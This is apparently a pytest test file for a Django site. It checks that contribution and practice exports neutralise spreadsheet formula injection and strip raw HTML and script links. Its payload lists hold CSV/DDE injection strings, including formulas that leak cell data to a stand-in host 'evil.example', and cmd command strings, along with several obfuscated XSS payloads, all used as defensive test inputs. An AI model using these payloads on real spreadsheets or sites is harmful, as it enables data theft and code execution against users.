"""Exports (finding 5): no live formula, no draft unless asked, no raw HTML or script links."""

import csv
import io

import pytest
from django.core.management import call_command
from markdown_it import MarkdownIt
from openpyxl import load_workbook

from discussions.moderation.exports import render_export
from home.spreadsheet import csv_cell, from_csv_cell
from practices.interchange import export_practices, import_file
from practices.models import GoodPracticePage, PracticeSubmission
from practices.views import submit_for_review
from tests.factories.accounts import UserFactory
from tests.factories.discussions import ContributionFactory
from tests.factories.practices import GoodPracticePageFactory, PracticeIndexPageFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    '=WEBSERVICE("https://evil.example/steal")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
    "\t=1+1",
]
MARKDOWN_PAYLOADS = [
    "<script>alert(1)</script> and <img src=x onerror=alert(2)>",
    "[click](javascript:alert(3))",
    "[click](JaVaScRiPt:alert(4))",
    "[click](  java\\script:alert(5))",
    "[click](&#106;avascript:alert(6))",
    "<javascript:alert(7)>",
    "[ref]\n\n[ref]: javascript:alert(8)",
    "[fine](https://example.org/ok)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_neutralising_rule_prefixes_formulas_and_reads_them_back(payload):
    cell = csv_cell(payload)
    assert cell.startswith("'")
    assert from_csv_cell(cell) == csv_cell(payload)[1:]
    assert csv_cell("Plain text = fine") == "Plain text = fine"
    assert csv_cell(42) == 42


@pytest.fixture
def hostile(discussion, member):
    author = UserFactory(username="eve", profile__full_name='=HYPERLINK("https://evil.example")')
    for payload in PAYLOADS:
        ContributionFactory(discussion=discussion, user=author, comment=payload)
    for payload in MARKDOWN_PAYLOADS:
        ContributionFactory(discussion=discussion, user=member, comment=payload)
    return discussion


def test_contribution_csv_export_has_no_cell_a_spreadsheet_runs(hostile):
    content, _name, _type = render_export(hostile, "csv", full=True)
    cells = [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]
    assert '\'=WEBSERVICE("https://evil.example/steal")' in cells
    assert '\'=HYPERLINK("https://evil.example")' in cells
    assert not [cell for cell in cells if cell.lstrip()[:1] in {"=", "+", "-", "@"}]


def test_contribution_xlsx_export_stores_formulas_as_text(hostile):
    content, _name, _type = render_export(hostile, "xlsx", full=True)
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert "=cmd|' /C calc'!A0" in texts and '=HYPERLINK("https://evil.example")' in texts


def test_markdown_export_carries_no_raw_html_nor_script_links(hostile):
    content, _name, _type = render_export(hostile, "md", full=True)
    # Rendered by a permissive CommonMark renderer, as another tool would.
    rendered = MarkdownIt("commonmark", {"html": True}).render(content.decode())
    assert "<script" not in rendered and "<img" not in rendered
    assert 'href="javascript' not in rendered.lower()
    assert 'href="https://example.org/ok"' in rendered
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered


@pytest.fixture
def practices(practice_index):
    GoodPracticePageFactory(parent=practice_index, title='=WEBSERVICE("https://x")', live=True)
    GoodPracticePageFactory(parent=practice_index, title="Published", summary="@SUM(A1)", live=True)
    GoodPracticePageFactory(parent=practice_index, title="A member's proposal", live=False)
    return practice_index


@pytest.fixture
def practice_index(site):
    return PracticeIndexPageFactory(parent=site.root_page)


def test_practices_csv_exports_published_practices_with_formulas_made_inert(practices):
    output = io.StringIO()
    assert export_practices(output, "csv") == 2
    rows = list(csv.DictReader(io.StringIO(output.getvalue())))
    assert {row["title"] for row in rows} == {'\'=WEBSERVICE("https://x")', "Published"}
    assert "'@SUM(A1)" in {row["summary"] for row in rows}
    assert "proposal" not in output.getvalue()


def test_practices_export_includes_drafts_only_when_asked(practices):
    out = io.StringIO()
    call_command("export_practices", "--all", stdout=out)
    assert "A member's proposal" in out.getvalue()


def test_an_exported_formula_title_imports_back_unchanged(practices):
    output = io.StringIO()
    export_practices(output, "csv")
    GoodPracticePage.objects.all().delete()
    report = import_file(output.getvalue(), "export.csv")
    titles = set(GoodPracticePage.objects.values_list("title", flat=True))
    assert report.ok, report.errors
    assert '=WEBSERVICE("https://x")' in titles


def test_a_member_proposal_waiting_for_review_is_exported_only_with_drafts(practice_index):
    member = UserFactory(username="proposer")
    proposal = GoodPracticePageFactory(
        parent=practice_index, title="Proposed by a member", live=False, owner=member
    )
    proposal.save_revision(user=member)
    submit_for_review(proposal, member)
    assert PracticeSubmission.objects.filter(page=proposal).exists()
    default, drafts = io.StringIO(), io.StringIO()
    call_command("export_practices", stdout=default)
    call_command("export_practices", "--include-drafts", stdout=drafts)
    assert "Proposed by a member" not in default.getvalue()
    assert "Proposed by a member" in drafts.getvalue()
